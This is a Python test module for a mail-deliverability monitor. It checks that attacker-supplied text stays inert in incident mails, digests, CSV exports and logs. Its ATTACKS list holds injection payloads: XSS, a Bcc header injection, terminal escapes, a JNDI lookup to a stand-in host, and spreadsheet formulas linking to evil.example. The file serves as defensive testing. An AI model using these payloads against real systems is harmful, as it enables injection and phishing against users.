"""What strangers write (TXT records, SMTP replies, SNDS comments, alerts) reaches people as text and no more."""

import csv
import io
import json
import logging
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from sqlmodel import Session

from core.incident import Incident, IncidentKind, Rule, Severity
from core.lease import Directive, Scope
from core.rate import Rate
from core.reading import Source
from core.secret import Redactor
from engine.accounting.encoding import CsvEncoding
from engine.accounting.records import Record
from engine.accounting.settings import RecordKind
from monitor.digest import mail as digest_mail
from monitor.digest.settings import DigestSettings
from monitor.incidents.telling import Account, Mailing, Why
from monitor.notifications import compose
from storage import database, health, incidents, leases, orders
from storage.health import SourceHealth
from storage.incidents import NewIncident
from storage.leases import LeaseChange
from storage.notices import Notice
from storage.orders import NewOrder, OrderKind
from tests.unit.monitor.watching import (
    IP,
    START,
    clean,
    html_of,
    listed,
    message,
    monitor_settings,
    rig,
    text_of,
)
from tidegate.logs import Console, JsonLines

ATTACKS = [
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '"><a href="javascript:alert(1)">delist here</a>',
    "line\r\nBcc: evil@example.net\r\n\r\n<h1>body</h1>",
    "\x1b[31mred\x1b]0;title\x07 \x9b2J \u202egnp.exe\u2066",
    "{{ 7771*7 }} {% for x in y %} ${jndi:ldap://evil} %(name)s {0.__class__}",
    '=HYPERLINK("https://evil.example","click")',
    "+1+1", "-2+3", "@SUM(A1)", "\t=1+1",
    "\x00\x7f\ufffe\U000e0041",
    "--===============boundary==\r\nContent-Type: text/html\r\n\r\nx",
]  # fmt: skip


class Tags(HTMLParser):
    """The tags and attributes of a mail, as a reader's client sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen |= {tag, *(f"{tag}[{name}]" for name, _ in attrs)}
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]


def incident(session: Session, attack: str) -> Incident:
    opened = incidents.open_incident(
        session,
        NewIncident(
            fingerprint=f"ip:{attack}", kind=IncidentKind.IP, ip=IP, source=Source.DNSBL, metric="zen.spamhaus.org",
            rule=Rule.DNSBL_LISTED, severity=Severity.CRITICAL, title=f"{IP} listed on {attack}", summary=attack,
            evidence={
                "reason": attack, attack: attack, "codes": {attack: attack}, "replies": [attack, attack],
                "row": {"comment": attack}, "delist_url": f"https://evil.example/{attack}",
            },
            evidence_end=START, opened_at=START,
        ),
    )  # fmt: skip
    change = LeaseChange(
        lease_key="k", scope=Scope(source_ip=IP), directive=Directive.SOURCE_IP_MAX_MSG_RATE, before=None,
        after=Rate.parse("1/m"), rule=attack, reason=attack, actor=attack, at=START, mode="enforce", undo=attack,
        evidence=(opened.label,),
    )  # fmt: skip
    leases.record_change(session, change)
    return opened


def closing(session: Session, attack: str) -> None:
    """Access that ends, with an account that somebody has named so."""
    new = NewIncident(
        fingerprint=f"source:{attack}", kind=IncidentKind.SOURCE, ip=None, source=Source.SNDS_DATA, metric=attack,
        rule=Rule.ACCESS, severity=Severity.WARNING, title=attack, summary=attack, evidence={"said": attack},
        evidence_end=START, opened_at=START,
    )  # fmt: skip
    incidents.open_incident(session, new)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("why", [Why.NEW, Why.UPDATE, Why.RESOLVED])
def test_a_mail_about_an_incident_is_as_safe_as_its_templates(attack: str, why: Why) -> None:
    with rig() as monitor, database.session(monitor.engine) as session:
        opened = incident(session, attack)
        account = Account(opened, Notice(incident=1, lead=1), tuple(incidents.events(session, 1)))
        draft = compose.draft(
            session, Mailing(account, (account,), why), START, monitor_settings().notifications
        )
        _is_safe(draft.to("ops@example.com").mime)
        _is_plain(draft.bulletin.model_dump())


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_digest_is_as_safe_as_its_templates(attack: str) -> None:
    with rig(start=START - timedelta(days=3)) as monitor:
        monitor.take(clean(monitor.clock.now()), listed(monitor.clock.now(), IP + 1, zone_name=attack))
        with database.session(monitor.engine) as session:
            incident(session, attack)
            closing(session, attack)
            health.save(session, SourceHealth(name=attack, state="blind", last_error=attack, detail=attack))
            order = NewOrder(kind=OrderKind.FREEZE, author=attack, reason=attack, created_at=START,
                             expires_at=START + timedelta(days=2))  # fmt: skip
            orders.give(session, order)
            now = START + timedelta(hours=1)
            mail = digest_mail.digest(session, now, DigestSettings(), monitor_settings().notifications)
            view = digest_mail.view(session, now, DigestSettings())
    _is_safe(mail.mime)
    _is_safe_html(digest_mail.page(view))
    _is_plain(json.loads(digest_mail.as_json(view)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_the_accounting_is_a_formula_or_a_line_of_its_own(attack: str) -> None:
    fields = dict.fromkeys(("orig", "rcpt", "dsnDiag", "dsnMta", "jobId", "vmta"), attack)
    row = CsvEncoding((RecordKind.BOUNCED,)).encode([Record(RecordKind.BOUNCED, START, fields)]).decode()
    [cells] = list(csv.reader(io.StringIO(row, newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_line_of_the_log_stays_one_line_and_drives_no_terminal(attack: str) -> None:
    record = logging.LogRecord("monitor", logging.WARNING, "f", 1, "not sent: %s", (attack,), None)
    record.reply = attack
    for text in (JsonLines(Redactor(), "watch").format(record), Console(Redactor(), "watch").format(record)):
        assert len(text.splitlines()) == 1
        assert text.isprintable()


def _is_safe(mime: bytes) -> None:
    mail = message(mime)
    assert [part.get_content_type() for part in mail.walk()][:2] == ["multipart/alternative", "text/plain"]
    assert mail["Bcc"] is None
    assert str(mail["Subject"]).isascii()
    _is_plain_text(text_of(mail))
    _is_safe_html(html_of(mail))


def _is_plain_text(text: str) -> None:
    assert all(c.isprintable() or c in "\n\u2026" for c in text)
    assert "54397" not in text, "nothing is computed"


def _is_safe_html(html: str) -> None:
    _is_plain_text(html)
    tags = Tags()
    tags.feed(html)
    assert tags.seen.isdisjoint({"script", "iframe", "form", "svg", "img[onerror]", "a[onclick]", "link"})
    assert all(
        link.startswith(("https://", "http://", "cid:", "data:image/png;base64,")) for link in tags.links
    )


def _is_plain(value: object) -> None:
    """Every text of a document for machines is one printable line."""
    if isinstance(value, dict):
        for one in value.values():
            _is_plain(one)
    elif isinstance(value, list | tuple):
        for one in value:
            _is_plain(one)
    elif isinstance(value, str):
        assert value.isprintable(), value
